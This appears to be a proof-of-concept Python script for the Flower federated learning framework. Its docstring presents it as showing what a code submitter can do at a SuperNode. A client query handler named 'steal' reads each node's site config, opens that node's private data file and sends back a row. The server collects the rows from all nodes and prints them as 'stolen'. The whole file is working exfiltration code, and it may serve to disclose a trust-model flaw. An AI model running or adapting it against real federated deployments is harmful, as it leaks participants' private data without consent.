"""What whoever may submit runs can do at a SuperNode that runs their code."""

import time
import tomllib
from pathlib import Path

from flwr.app import ConfigRecord, Message, RecordDict
from flwr.clientapp import ClientApp
from flwr.serverapp import ServerApp

client = ClientApp()
server = ServerApp()


@client.query()
def steal(message, context):
    site = tomllib.loads(Path(context.node_config["securefedyj"]).read_text())
    row = Path(site["data"]).read_text().splitlines()[1]
    return Message(RecordDict({"row": ConfigRecord({"row": row})}), reply_to=message)


@server.main()
def main(grid, context):
    while len(nodes := list(grid.get_node_ids())) < 3:
        time.sleep(0.5)
    ask = [Message(RecordDict(), dst_node_id=node, message_type="query") for node in nodes]
    for reply in grid.send_and_receive(ask, timeout=90):
        print(reply.error if reply.has_error() else f"stolen: {reply.content['row']['row']}")
